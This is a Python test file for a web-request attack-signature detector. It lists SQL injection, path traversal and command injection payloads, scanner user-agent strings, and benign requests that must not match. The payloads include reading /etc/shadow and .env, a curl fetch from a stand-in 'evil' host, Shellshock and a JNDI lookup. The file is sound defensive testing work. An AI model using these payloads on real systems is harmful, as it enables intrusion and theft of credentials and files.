"""The signature set: attacks fire, odd-but-honest requests do not."""

from __future__ import annotations

import re
from urllib.parse import urlencode

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from rollguard.security.signatures import SAMPLE_ATTACKS, decode_target, match_request

ATTACKS = [
    # SQL injection
    ("/items?id=1' OR 1=1--", "sql_injection"),
    ("/items?id=1%27%20or%20%27a%27%3D%27a", "sql_injection"),
    ("/x?id=1%20UNION%20SELECT%20username,password%20FROM%20users", "sql_injection"),
    ("/x?id=1/**/union/**/all/**/select/**/1,2", "sql_injection"),
    ("/x?id=1;DROP TABLE users", "sql_injection"),
    ("/x?id=1 AND sleep(5)", "sql_injection"),
    ("/x?q=1'; waitfor delay '0:0:5'--", "sql_injection"),
    ("/x?id=1 and 1=(select count(*) from information_schema.tables)", "sql_injection"),
    ("/login?user=admin'--", "sql_injection"),
    ("/q?x=%2527%20or%20%25271%2527%3D%25271", "sql_injection"),  # double-encoded
    # Path traversal
    ("/download?file=../../../../etc/passwd", "path_traversal"),
    ("/static/..%2f..%2f..%2fetc%2fshadow", "path_traversal"),
    ("/img?path=..\\..\\windows\\win.ini", "path_traversal"),
    ("/read?f=/proc/self/environ", "path_traversal"),
    ("/view?page=../.env", "path_traversal"),
    ("/file?name=report.pdf%00.png", "path_traversal"),
    # Command injection
    ("/ping?host=127.0.0.1;cat%20/etc/hosts", "command_injection"),
    ("/ping?host=127.0.0.1|id", "command_injection"),
    ("/ping?host=x%26%26whoami", "command_injection"),
    ("/run?cmd=$(curl%20http://evil/x.sh)", "command_injection"),
    ("/run?cmd=`uname -a`", "command_injection"),
    ("/cgi-bin/test?x=() { :;}; /bin/bash -c 'id'", "command_injection"),
    ("/x?q=${jndi:ldap://evil.example/a}", "command_injection"),
]

BENIGN = [
    "/",
    "/health",
    "/search?q=union+station",
    "/search?q=select+a+plan",
    "/docs/select-a-plan",
    "/blog/why-we-dropped-table-layouts",
    "/users?name=O'Reilly",
    "/books?author=O%27Brien&sort=title",
    "/api;jsessionid=ABC123",
    "/catalog;id=5/items",
    "/files/report..final.pdf",
    "/app?next=../dashboard",
    "/search?q=what+is+1%3D1",
    "/search?q=rock+%26+roll",
    "/search?q=a+|+b",
    "/api?filter=status|active",
    "/wiki/Cat_(Unix)",
    "/wiki/Sleep_(disambiguation)",
    "/static/app.min.js?v=1.2.3",
    "/products?sort=price&order=desc&page=2",
    "/search?q=how+to+drop+a+table+in+sql",
    "/api/v1/cats/ls-2024",
    "/markdown?text=use+%60code%60+here",
    "/etc/config-page",
    "/search?q=%E2%9C%93+unicode",
]


@pytest.mark.parametrize(("target", "category"), ATTACKS)
def test_attacks_fire(target: str, category: str) -> None:
    matches = match_request(target, "Mozilla/5.0")
    assert category in {match.category for match in matches}, target


@pytest.mark.parametrize("target", BENIGN)
def test_benign_requests_do_not_fire(target: str) -> None:
    assert match_request(target, "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0") == []


@pytest.mark.parametrize(
    "agent",
    [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "gobuster/3.6",
        "Fuzz Faster U Fool v2.1.0",
    ],
)
def test_scanner_user_agents_fire(agent: str) -> None:
    assert [m.category for m in match_request("/", agent)] == ["scanner"]


@pytest.mark.parametrize(
    "agent",
    [
        "curl/8.4.0",
        "python-requests/2.32.3",
        "Go-http-client/1.1",
        "kube-probe/1.29",
        "Prometheus/2.42.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15",
    ],
)
def test_ordinary_clients_are_not_scanners(agent: str) -> None:
    assert match_request("/", agent) == []


def test_decoding_stops_after_two_rounds() -> None:
    assert decode_target("%252527") == "%27"
    assert decode_target("a+b") == "a b"


@given(
    st.lists(
        st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_.", min_size=1, max_size=12),
        min_size=1,
        max_size=6,
    ),
    st.dictionaries(
        st.text(alphabet="abcdefghijklmnopqrstuvwxyz_", min_size=1, max_size=8),
        st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789 -_.,", max_size=20),
        max_size=4,
    ),
)
def test_plain_paths_and_queries_never_fire(segments: list[str], query: dict[str, str]) -> None:
    """Letters, digits and ordinary punctuation alone are never an attack."""
    target = "/" + "/".join(segments)
    # Paths into system folders (/bin/sh, /etc/passwd, /proc/self) are suspicious by design.
    assume(not re.search(r"/(?:bin|etc|proc|windows)/", target))
    if query:
        target += "?" + urlencode(query)
    assert match_request(target, "Mozilla/5.0") == []


@pytest.mark.parametrize(("target", "agent", "category"), SAMPLE_ATTACKS)
def test_sample_attacks_for_the_demo_fire(target: str, agent: str, category: str) -> None:
    assert category in {match.category for match in match_request(target, agent)}
